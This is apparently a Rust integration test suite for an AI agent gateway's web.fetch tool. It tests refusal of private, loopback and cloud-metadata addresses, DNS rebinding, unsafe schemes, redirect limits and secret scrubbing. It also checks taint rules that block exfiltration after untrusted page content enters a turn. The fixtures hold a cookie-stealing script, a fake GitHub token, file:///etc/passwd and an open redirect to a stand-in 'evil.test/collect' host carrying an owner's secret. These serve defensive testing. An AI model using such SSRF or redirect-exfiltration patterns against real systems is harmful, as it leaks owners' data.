//! web.fetch through `Toolbox::call`, against a real HTTP server on loopback.
//!
//! Loopback is itself a refused range, so the tests reach their server by names they control
//! (a name table given to the tool in place of the system's resolver; every address it answers
//! goes through the same checks), allowed by name in `[web.fetch]`. The refusals are shown
//! separately: a private address, a redirect to loopback by address and by a name, a name that
//! resolves to loopback without being allowed by name, `localhost` itself through the system's
//! resolver, other schemes, no method but GET, the size and time bounds, the redirect limit.

use std::collections::HashMap;
use std::net::IpAddr;
use std::path::Path;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::{Duration, Instant};

use seam_gate::tools::{Lookup, WebFetch};
use seam_gate::{CallRequest, GateConfig, GovernedTool, LedgerHook, Toolbox};
use seam_policy::{Policy, PolicyEnv};
use seam_protocol::{Answer, RefusalCode};
use seam_scrub::Scrubber;
use seam_test_support::answer::{output, refusal, refused_at_timeout};
use seam_test_support::home::OwnerTree;
use seam_test_support::http::{Reply, Server};
use serde_json::{Value, json};

const GITHUB_TOKEN: &str = "ghp_R8b2Xq4TzK9mLp3Vw7Ys1Nc6Hd5Fj0Ga2Ue4";

/// Names to addresses, as the test says; any other name does not resolve. Counts lookups.
#[derive(Debug, Default)]
struct Names {
    table: HashMap<String, Vec<IpAddr>>,
    asked: AtomicUsize,
}

impl Names {
    fn of(entries: &[(&str, &str)]) -> Arc<Names> {
        let mut table: HashMap<String, Vec<IpAddr>> = HashMap::new();
        for (name, addr) in entries {
            table
                .entry((*name).to_owned())
                .or_default()
                .push(addr.parse().unwrap());
        }
        Arc::new(Names {
            table,
            asked: AtomicUsize::new(0),
        })
    }
}

impl Lookup for Names {
    fn lookup(&self, host: &str) -> std::io::Result<Vec<IpAddr>> {
        self.asked.fetch_add(1, Ordering::SeqCst);
        self.table.get(host).cloned().ok_or_else(|| {
            std::io::Error::new(std::io::ErrorKind::NotFound, format!("no such name {host}"))
        })
    }
}

struct Fixture {
    /// The owner's home, seam home and workspace.
    tree: OwnerTree,
    /// Each toolbox gets a ledger of its own (a ledger has one writer).
    ledgers: AtomicUsize,
}

impl Fixture {
    fn new() -> Fixture {
        Fixture {
            tree: OwnerTree::new(),
            ledgers: AtomicUsize::new(0),
        }
    }

    fn policy(&self, text: &str) -> Arc<Policy> {
        let env = PolicyEnv {
            owner_home: self.tree.home.clone(),
            seam_home: self.tree.seam_home.clone(),
            workspace_root: self.tree.workspace.clone(),
        };
        Arc::new(Policy::from_toml_str(text, Path::new("test-policy.toml"), env).unwrap())
    }

    /// A toolbox with web.fetch as `config` sets it up (names resolved by `names`, or by the
    /// system's resolver), under a policy that allows web.fetch, and the signed ledger.
    fn toolbox(&self, config: &str, names: Option<Arc<Names>>) -> Toolbox {
        self.toolbox_under(config, names, "[capabilities]\n\"web.fetch\" = \"allow\"\n")
    }

    fn toolbox_under(&self, config: &str, names: Option<Arc<Names>>, policy: &str) -> Toolbox {
        let config = GateConfig::from_toml_str(config, Path::new("config.toml")).unwrap();
        let setup = config.web_fetch_setup();
        let tool = match names {
            Some(n) => WebFetch::with_lookup(setup, n),
            None => WebFetch::new(setup),
        };
        let n = self.ledgers.fetch_add(1, Ordering::SeqCst);
        let ledger_home = self.tree.seam_home.join(format!("ledger-{n}"));
        std::fs::create_dir_all(&ledger_home).unwrap();
        let ledger: Arc<dyn LedgerHook> =
            Arc::new(seam_ledger::Ledger::open(&ledger_home).unwrap());
        let tools: Vec<Box<dyn GovernedTool>> = vec![Box::new(tool)];
        Toolbox::with_tools(
            self.policy(policy),
            Arc::new(Scrubber::new()),
            ledger,
            tools,
        )
        .unwrap()
    }
}

fn fetch(tb: &Toolbox, params: Value, turn: Option<&str>) -> Answer {
    tb.call(CallRequest {
        tool: "web.fetch".into(),
        params,
        turn: turn.map(str::to_owned),
    })
    .unwrap()
}

fn get(tb: &Toolbox, url: &str) -> Answer {
    fetch(tb, json!({ "url": url }), None)
}

/// The server's port, and a URL on it by `name`.
fn at(server: &Server, name: &str, path: &str) -> String {
    format!("http://{name}:{}{path}", server.addr.port())
}

fn allow(entries: &str, extra: &str) -> String {
    format!("[web.fetch]\nallow = [{entries}]\n{extra}")
}

const PAGE: &str = "<!doctype html><html><head><title>Notes</title>\
    <style>body { color: red }</style><script>var stolen = document.cookie;</script></head>\
    <body><h1>Release notes</h1><p>Version <b>1.2</b> fixes the <a href=\"/bug/7\">parser \
    bug</a>.</p><script>alert('injected')</script></body></html>";

#[test]
fn a_page_on_a_host_allowed_by_name_is_read_as_text() {
    let fx = Fixture::new();
    let server = Server::start(|_| Reply::text(200, PAGE));
    let tb = fx.toolbox(
        &allow("\"fetch.test\"", ""),
        Some(Names::of(&[("fetch.test", "127.0.0.1")])),
    );
    let url = at(&server, "fetch.test", "/notes");
    let a = fetch(&tb, json!({ "url": url }), Some("t1"));
    let out = output(&a);
    assert_eq!(out["url"], url.as_str());
    assert_eq!(out["status"], 200);
    assert_eq!(out["content_type"], "text/html");
    let text = out["text"].as_str().unwrap();
    assert!(text.contains("# Release notes"), "{text}");
    assert!(
        text.contains("Version **1.2** fixes the [parser bug][1]."),
        "{text}"
    );
    assert!(text.contains("/bug/7"), "{text}");
    for gone in [
        "stolen", "cookie", "alert", "injected", "color", "<", "Notes",
    ] {
        assert!(!text.contains(gone), "{gone:?} in {text}");
    }
    assert!(out.get("cut").is_none(), "{out}");
    // one GET, to the name the URL gave
    let seen = server.seen();
    assert_eq!(seen.len(), 1);
    assert_eq!(seen[0].method, "GET");
    assert_eq!(seen[0].target, "/notes");
    assert_eq!(
        seen[0].header("host"),
        Some(format!("fetch.test:{}", server.addr.port()).as_str())
    );
    assert_eq!(seen[0].header("referer"), None);
    assert_eq!(seen[0].header("cookie"), None);
}

#[test]
fn a_fetch_taints_its_turn_and_the_turn_has_no_way_out_after_it() {
    let fx = Fixture::new();
    let server = Server::start(|_| Reply::text(200, "<p>untrusted words</p>"));
    let tb = fx.toolbox(
        &allow("\"fetch.test\"", ""),
        Some(Names::of(&[("fetch.test", "127.0.0.1")])),
    );
    let url = at(&server, "fetch.test", "/");
    let a = fetch(&tb, json!({ "url": url }), Some("turn-a"));
    match &a {
        Answer::Envelope(e) => assert!(e.tainted, "the envelope says tainted"),
        Answer::Refusal(r) => panic!("{:?}", r.refused),
    }
    assert!(tb.is_tainted("turn-a"), "the gate remembers the taint");
    let (code, message) = refusal(&fetch(&tb, json!({ "url": url }), Some("turn-a")));
    assert_eq!(code, RefusalCode::Tainted, "{message}");
    assert!(
        message.contains("web.fetch reaches the network"),
        "{message}"
    );
    assert_eq!(server.seen().len(), 1, "the second call sent nothing");
    // another turn is not tainted
    output(&fetch(&tb, json!({ "url": url }), Some("turn-b")));
}

#[test]
fn in_a_tainted_turn_a_fetch_reaches_only_a_host_the_operator_named() {
    let fx = Fixture::new();
    let server = Server::start(|_| Reply::text(200, "<p>see other.test for more</p>"));
    let tb = fx.toolbox(
        &allow("\"fetch.test\", \"other.test\"", ""),
        Some(Names::of(&[
            ("fetch.test", "127.0.0.1"),
            ("other.test", "127.0.0.1"),
        ])),
    );
    let (turn, _token) =
        tb.open_turn_with(&["Summarise the release notes on FETCH.test for me".to_owned()]);
    let url = at(&server, "fetch.test", "/");
    output(&fetch(&tb, json!({ "url": url }), Some(&turn)));
    assert!(tb.is_tainted(&turn));
    // The operator's host again, tainted: its host is endorsed by the operator's words.
    output(&fetch(
        &tb,
        json!({ "url": at(&server, "fetch.test", "/more") }),
        Some(&turn),
    ));
    // A host the page named, not the operator: refused, naming it.
    let (code, message) = refusal(&fetch(
        &tb,
        json!({ "url": at(&server, "other.test", "/") }),
        Some(&turn),
    ));
    assert_eq!(code, RefusalCode::Tainted, "{message}");
    assert!(message.contains("other.test"), "{message}");
    assert_eq!(server.seen().len(), 2, "the refused call sent nothing");
}

#[test]
fn a_secret_in_the_page_is_scrubbed() {
    let fx = Fixture::new();
    let body = format!("<p>deploy token: {GITHUB_TOKEN}</p>");
    let server = Server::start(move |_| Reply::text(200, &body));
    let tb = fx.toolbox(
        &allow("\"fetch.test\"", ""),
        Some(Names::of(&[("fetch.test", "127.0.0.1")])),
    );
    let a = get(&tb, &at(&server, "fetch.test", "/"));
    let Answer::Envelope(env) = &a else {
        panic!("{a:?}")
    };
    let text = env.output["text"].as_str().unwrap();
    assert!(!text.contains(GITHUB_TOKEN), "{text}");
    assert!(text.contains("deploy token:"), "{text}");
    assert!(!env.scrubbed.is_empty(), "the envelope names the shape");
}

#[test]
fn a_private_address_is_refused_and_nothing_is_sent() {
    let fx = Fixture::new();
    let names = Names::of(&[("intranet.test", "10.0.0.5")]);
    let tb = fx.toolbox(&allow("\"*\"", ""), Some(names.clone()));
    let (code, message) = refusal(&get(&tb, "http://10.0.0.5/"));
    assert_eq!(code, RefusalCode::NotAllowed);
    assert_eq!(
        message,
        "web.fetch: http://10.0.0.5/: 10.0.0.5 resolves to 10.0.0.5, a private address; allow \
         the host by name in [web.fetch] allow to reach it (\"*\" and \"*.…\" entries never \
         reach such an address)"
    );
    // a name that resolves there: refused by the resolver, before any connection
    let (code, message) = refusal(&get(&tb, "http://intranet.test/wiki"));
    assert_eq!(code, RefusalCode::NotAllowed);
    assert!(
        message.contains("intranet.test resolves to 10.0.0.5, a private address"),
        "{message}"
    );
    assert_eq!(names.asked.load(Ordering::SeqCst), 1);
    // and the metadata address, in its IPv4-mapped IPv6 form
    let (_, message) = refusal(&get(&tb, "http://[::ffff:169.254.169.254]/latest/"));
    assert!(message.contains("a cloud metadata address"), "{message}");
}

#[test]
fn a_name_that_resolves_to_loopback_is_refused_unless_allowed_by_name() {
    let fx = Fixture::new();
    let server = Server::start(|_| Reply::text(200, "<p>inside</p>"));
    let names = Names::of(&[("fetch.test", "127.0.0.1"), ("rebind.test", "127.0.0.1")]);
    // "*" and "*.test" allow the host, but not by name: its loopback address is refused
    for list in ["\"*\"", "\"*.test\""] {
        let tb = fx.toolbox(&allow(list, ""), Some(names.clone()));
        let (code, message) = refusal(&get(&tb, &at(&server, "rebind.test", "/")));
        assert_eq!(code, RefusalCode::NotAllowed, "{message}");
        assert!(
            message.contains(
                "rebind.test resolves to 127.0.0.1, a loopback address; allow the host by name"
            ),
            "{message}"
        );
    }
    assert!(server.seen().is_empty(), "nothing reached the server");
    // by name: reached
    let tb = fx.toolbox(&allow("\"rebind.test\"", ""), Some(names));
    output(&get(&tb, &at(&server, "rebind.test", "/")));
    assert_eq!(server.seen().len(), 1);
}

#[test]
fn localhost_is_refused_through_the_systems_resolver() {
    let fx = Fixture::new();
    let server = Server::start(|_| Reply::text(200, "<p>inside</p>"));
    let tb = fx.toolbox(&allow("\"*\"", ""), None);
    let (code, message) = refusal(&get(&tb, &at(&server, "localhost", "/")));
    assert_eq!(code, RefusalCode::NotAllowed, "{message}");
    assert!(
        message.contains("localhost resolves to 127.0.0.1, a loopback address")
            || message.contains("localhost resolves to ::1, a loopback address"),
        "{message}"
    );
    let (_, message) = refusal(&get(&tb, &at(&server, "127.0.0.1", "/")));
    assert!(message.contains("127.0.0.1 resolves to 127.0.0.1, a loopback address"));
    assert!(server.seen().is_empty(), "nothing reached the server");
    // allowed by name, localhost is reached
    let tb = fx.toolbox(&allow("\"localhost\"", ""), None);
    let out = output(&get(&tb, &at(&server, "localhost", "/"))).clone();
    assert_eq!(out["text"], "inside");
}

#[test]
fn a_redirect_to_loopback_by_address_is_refused() {
    let fx = Fixture::new();
    let port = Arc::new(AtomicUsize::new(0));
    let p = port.clone();
    let server = Server::start(move |seen| match seen.target.as_str() {
        "/go" => Reply::redirect(&format!(
            "http://127.0.0.1:{}/secret",
            p.load(Ordering::SeqCst)
        )),
        _ => Reply::text(200, "<p>the secret</p>"),
    });
    port.store(server.addr.port().into(), Ordering::SeqCst);
    let names = Names::of(&[("fetch.test", "127.0.0.1")]);
    // "*" allows the address as a host; the address check refuses it
    let tb = fx.toolbox(&allow("\"fetch.test\", \"*\"", ""), Some(names.clone()));
    let url = at(&server, "fetch.test", "/go");
    let (code, message) = refusal(&get(&tb, &url));
    assert_eq!(code, RefusalCode::NotAllowed, "{message}");
    let to = format!("http://127.0.0.1:{}", server.addr.port());
    assert!(
        message.starts_with(&format!(
            "web.fetch: {url} redirected, and the gate refused to follow: a redirect to {to} \
             was refused: 127.0.0.1 resolves to 127.0.0.1, a loopback address"
        )),
        "{message}"
    );
    // without "*", the address is not on the list at all
    let tb = fx.toolbox(&allow("\"fetch.test\"", ""), Some(names));
    let (_, message) = refusal(&get(&tb, &url));
    assert!(
        message.contains("127.0.0.1 is not on the [web.fetch] allow list (\"fetch.test\")"),
        "{message}"
    );
    let targets: Vec<String> = server.seen().into_iter().map(|s| s.target).collect();
    assert_eq!(targets, ["/go", "/go"], "the redirect was never followed");
}

#[test]
fn a_redirect_to_a_name_that_resolves_to_loopback_is_refused_at_connect() {
    let fx = Fixture::new();
    let port = Arc::new(AtomicUsize::new(0));
    let p = port.clone();
    let server = Server::start(move |seen| match seen.target.as_str() {
        "/go" => Reply::redirect(&format!(
            "http://other.test:{}/secret",
            p.load(Ordering::SeqCst)
        )),
        _ => Reply::text(200, "<p>the secret</p>"),
    });
    port.store(server.addr.port().into(), Ordering::SeqCst);
    let names = Names::of(&[("fetch.test", "127.0.0.1"), ("other.test", "127.0.0.1")]);
    let tb = fx.toolbox(&allow("\"fetch.test\", \"*.test\"", ""), Some(names));
    let url = at(&server, "fetch.test", "/go");
    let (code, message) = refusal(&get(&tb, &url));
    assert_eq!(code, RefusalCode::NotAllowed, "{message}");
    assert!(
        message.starts_with(&format!(
            "web.fetch: {url} (redirected to other.test): other.test resolves to 127.0.0.1, a \
             loopback address"
        )),
        "{message}"
    );
    let targets: Vec<String> = server.seen().into_iter().map(|s| s.target).collect();
    assert_eq!(targets, ["/go"]);
}

#[test]
fn redirects_are_followed_up_to_the_limit() {
    let fx = Fixture::new();
    let server = Server::start(|seen| {
        let n: u32 = seen.target.trim_start_matches("/r/").parse().unwrap_or(0);
        if n >= 10 {
            Reply::text(200, "<p>arrived</p>")
        } else {
            Reply::redirect(&format!("/r/{}", n + 1))
        }
    });
    let names = Names::of(&[("fetch.test", "127.0.0.1")]);
    let tb = fx.toolbox(
        &allow("\"fetch.test\"", "max_redirects = 2\n"),
        Some(names.clone()),
    );
    // two hops: followed
    let out = output(&get(&tb, &at(&server, "fetch.test", "/r/8"))).clone();
    assert_eq!(out["text"], "arrived");
    assert_eq!(out["final_url"], at(&server, "fetch.test", "/r/10"));
    // three: the third is refused, and never requested
    let before = server.seen().len();
    let (code, message) = refusal(&get(&tb, &at(&server, "fetch.test", "/r/0")));
    assert_eq!(code, RefusalCode::NotAllowed, "{message}");
    assert!(
        message.contains("it would be redirect 3 of at most 2 (max_redirects in [web.fetch])"),
        "{message}"
    );
    assert_eq!(server.seen().len() - before, 3, "/r/0, /r/1, /r/2");
}

#[test]
fn other_schemes_are_refused_by_name() {
    let fx = Fixture::new();
    let tb = fx.toolbox(&allow("\"*\"", ""), Some(Names::of(&[])));
    for (url, scheme) in [
        ("file:///etc/passwd", "file"),
        ("ftp://fetch.test/x", "ftp"),
        ("gopher://fetch.test/", "gopher"),
        ("javascript:alert(1)", "javascript"),
        ("data:text/plain,hello", "data"),
        ("ws://fetch.test/", "ws"),
    ] {
        let (code, message) = refusal(&get(&tb, url));
        assert_eq!(code, RefusalCode::InvalidParams, "{url}: {message}");
        assert!(
            message.contains(&format!(
                "{scheme}: URLs are refused; web.fetch reads http and https URLs only"
            )),
            "{url}: {message}"
        );
    }
    let (code, message) = refusal(&get(&tb, "not a url"));
    assert_eq!(code, RefusalCode::InvalidParams);
    assert!(message.contains("\"not a url\" is not a URL"), "{message}");
}

#[test]
fn get_is_the_only_method() {
    let fx = Fixture::new();
    let server = Server::start(|_| Reply::text(200, "<p>ok</p>"));
    let tb = fx.toolbox(
        &allow("\"fetch.test\"", ""),
        Some(Names::of(&[("fetch.test", "127.0.0.1")])),
    );
    let url = at(&server, "fetch.test", "/");
    let schema = &tb.decls().next().unwrap().schema;
    let keys: Vec<&String> = schema["properties"].as_object().unwrap().keys().collect();
    assert_eq!(keys, ["url"], "no method, header or body in the schema");
    for extra in [
        json!({"url": url, "method": "POST"}),
        json!({"url": url, "body": "x=1"}),
        json!({"url": url, "headers": {"X-A": "b"}}),
    ] {
        let (code, message) = refusal(&fetch(&tb, extra, None));
        assert_eq!(code, RefusalCode::InvalidParams, "{message}");
    }
    assert!(server.seen().is_empty());
    output(&get(&tb, &url));
    assert_eq!(server.seen()[0].method, "GET");
}

#[test]
fn a_large_page_is_cut_at_the_byte_limit_and_says_so() {
    let fx = Fixture::new();
    // 50 MB with no Content-Length, streamed until the client leaves
    let server = Server::start(|seen| match seen.target.as_str() {
        "/big" => Reply::Stream {
            len: 50 * 1024 * 1024,
        },
        _ => Reply::text(200, &format!("<p>{}</p>", "word ".repeat(2000))),
    });
    let names = Names::of(&[("fetch.test", "127.0.0.1")]);
    let tb = fx.toolbox(
        &allow("\"fetch.test\"", "max_bytes = 4096\nmax_chars = 100\n"),
        Some(names),
    );
    let started = Instant::now();
    let out = output(&get(&tb, &at(&server, "fetch.test", "/big"))).clone();
    assert!(started.elapsed() < Duration::from_secs(5));
    assert_eq!(
        out["cut"],
        "the page is larger than the 4096 byte limit (max_bytes in [web.fetch]); only its first \
         4096 bytes were read"
    );
    // the text: characters cut too
    let out = output(&get(&tb, &at(&server, "fetch.test", "/words"))).clone();
    assert_eq!(out["text"].as_str().unwrap().chars().count(), 100);
    let cut = out["cut"].as_str().unwrap();
    assert!(
        cut.contains("the page is larger than the 4096 byte limit"),
        "{cut}"
    );
    assert!(
        cut.contains("the text is longer than 100 characters (max_chars in [web.fetch])"),
        "{cut}"
    );
}

#[test]
fn a_slow_server_is_cut_off_at_the_timeout() {
    let fx = Fixture::new();
    let server = Server::start(|seen| match seen.target.as_str() {
        "/late" => Reply::After(Duration::from_secs(4), Box::new(Reply::text(200, "late"))),
        _ => Reply::Trickle {
            body: vec![b'x'; 200],
            gap: Duration::from_millis(50),
        },
    });
    let names = Names::of(&[("fetch.test", "127.0.0.1")]);
    let tb = fx.toolbox(&allow("\"fetch.test\"", "timeout_s = 1\n"), Some(names));
    refused_at_timeout(
        &["/late", "/trickle"],
        "within 1 s",
        Duration::from_millis(2500),
        |path| get(&tb, &at(&server, "fetch.test", path)),
    );
}

#[test]
fn an_empty_or_missing_allow_list_allows_no_host() {
    let fx = Fixture::new();
    let server = Server::start(|_| Reply::text(200, "<p>x</p>"));
    let names = Names::of(&[("fetch.test", "127.0.0.1")]);
    let url = at(&server, "fetch.test", "/");
    let tb = fx.toolbox(&allow("", ""), Some(names.clone()));
    let (code, message) = refusal(&get(&tb, &url));
    assert_eq!(code, RefusalCode::NotAllowed);
    assert!(
        message.contains(
            "the [web.fetch] allow list is empty, and an empty list allows no host (not every host)"
        ),
        "{message}"
    );
    let tb = fx.toolbox("", Some(names.clone()));
    let (code, message) = refusal(&get(&tb, &url));
    assert_eq!(code, RefusalCode::NotAllowed);
    assert!(
        message.contains("the gate's config has no [web.fetch] table, so no host is allowed"),
        "{message}"
    );
    assert!(
        message.contains("allow = [\"*\"] for every public host"),
        "{message}"
    );
    // a host not on a list
    let tb = fx.toolbox(&allow("\"docs.rs\", \"*.example.org\"", ""), Some(names));
    let (code, message) = refusal(&get(&tb, &url));
    assert_eq!(code, RefusalCode::NotAllowed);
    assert!(
        message.contains(
            "fetch.test is not on the [web.fetch] allow list (\"docs.rs\", \"*.example.org\")"
        ),
        "{message}"
    );
    assert!(server.seen().is_empty());
}

#[test]
fn other_content_is_refused_and_an_error_page_says_what_it_is() {
    let fx = Fixture::new();
    let server = Server::start(|seen| match seen.target.as_str() {
        "/png" => Reply::Full {
            status: 200,
            headers: vec![("Content-Type".into(), "image/png".into())],
            body: b"\x89PNG\r\n\x1a\n\0\0".to_vec(),
        },
        "/json" => Reply::json(200, &json!({"a": [1, 2]})),
        _ => Reply::text(404, "<h1>Not here</h1>"),
    });
    let names = Names::of(&[("fetch.test", "127.0.0.1")]);
    let tb = fx.toolbox(&allow("\"fetch.test\"", ""), Some(names));
    let url = at(&server, "fetch.test", "/png");
    let (code, message) = refusal(&get(&tb, &url));
    assert_eq!(code, RefusalCode::ToolFailed);
    assert_eq!(
        message,
        format!(
            "web.fetch: {url} is image/png, not text; web.fetch returns text only (HTML, plain \
             text, JSON, XML)"
        )
    );
    let out = output(&get(&tb, &at(&server, "fetch.test", "/json"))).clone();
    assert_eq!(out["content_type"], "application/json");
    assert_eq!(out["text"], r#"{"a":[1,2]}"#);
    let out = output(&get(&tb, &at(&server, "fetch.test", "/gone"))).clone();
    assert_eq!(out["status"], 404);
    assert_eq!(out["text"], "# Not here");
    assert!(out["note"].as_str().unwrap().contains("HTTP 404"), "{out}");
}

#[test]
fn the_capability_defaults_to_ask_and_a_call_without_an_operator_is_refused() {
    let fx = Fixture::new();
    let server = Server::start(|_| Reply::text(200, "<p>x</p>"));
    let names = Names::of(&[("fetch.test", "127.0.0.1")]);
    let tb = fx.toolbox_under(&allow("\"fetch.test\"", ""), Some(names), "");
    let (code, message) = refusal(&get(&tb, &at(&server, "fetch.test", "/")));
    assert_eq!(code, RefusalCode::ConsentRequired, "{message}");
    assert!(
        message.contains("the policy says \"ask\" for \"web.fetch\""),
        "{message}"
    );
    assert!(server.seen().is_empty());
}

/// An open redirect on a host the operator named must not carry the turn's data on to a host
/// nobody endorsed: in a tainted turn each redirect's host is a destination too. A redirect
/// within the endorsed host is followed, and an untainted turn follows any redirect the
/// allow-list admits.
#[test]
fn in_a_tainted_turn_a_redirect_reaches_only_an_endorsed_host() {
    let fx = Fixture::new();
    let port = Arc::new(AtomicUsize::new(0));
    let p = port.clone();
    let server = Server::start(move |seen| {
        let port = p.load(Ordering::SeqCst);
        match seen.target.as_str() {
            t if t.starts_with("/out?") => {
                Reply::redirect(&format!("http://evil.test:{port}/collect{}", &t[4..]))
            }
            "/moved" => Reply::redirect("/notes"),
            _ => Reply::text(200, "<p>release notes</p>"),
        }
    });
    port.store(server.addr.port().into(), Ordering::SeqCst);
    let names = Names::of(&[("fetch.test", "127.0.0.1"), ("evil.test", "127.0.0.1")]);
    let tb = fx.toolbox(&allow("\"fetch.test\", \"evil.test\"", ""), Some(names));
    let (turn, _token) = tb.open_turn_with(&["Read the notes on fetch.test".to_owned()]);
    output(&fetch(
        &tb,
        json!({ "url": at(&server, "fetch.test", "/notes") }),
        Some(&turn),
    ));
    assert!(tb.is_tainted(&turn));
    // within the endorsed host: followed
    let a = fetch(
        &tb,
        json!({ "url": at(&server, "fetch.test", "/moved") }),
        Some(&turn),
    );
    assert!(
        output(&a)["text"]
            .as_str()
            .unwrap()
            .contains("release notes")
    );
    // through the endorsed host's open redirect to another: refused, and never requested
    let url = at(&server, "fetch.test", "/out?d=the-owners-secret");
    let (code, message) = refusal(&fetch(&tb, json!({ "url": url }), Some(&turn)));
    assert_eq!(code, RefusalCode::Tainted, "{message}");
    assert!(
        message.contains("evil.test is not a destination endorsed"),
        "{message}"
    );
    // of the redirect only its scheme, host and port are shown
    assert!(!message.contains("/collect"), "{message}");
    let targets: Vec<String> = server.seen().into_iter().map(|s| s.target).collect();
    assert!(
        !targets.iter().any(|t| t.starts_with("/collect")),
        "{targets:?}"
    );
    // the same redirect in an untainted turn is followed
    let (fresh, _token) = tb.open_turn_with(&["Read the notes on fetch.test".to_owned()]);
    output(&fetch(&tb, json!({ "url": url }), Some(&fresh)));
    let targets: Vec<String> = server.seen().into_iter().map(|s| s.target).collect();
    assert_eq!(
        targets.last().map(String::as_str),
        Some("/collect?d=the-owners-secret")
    );
}
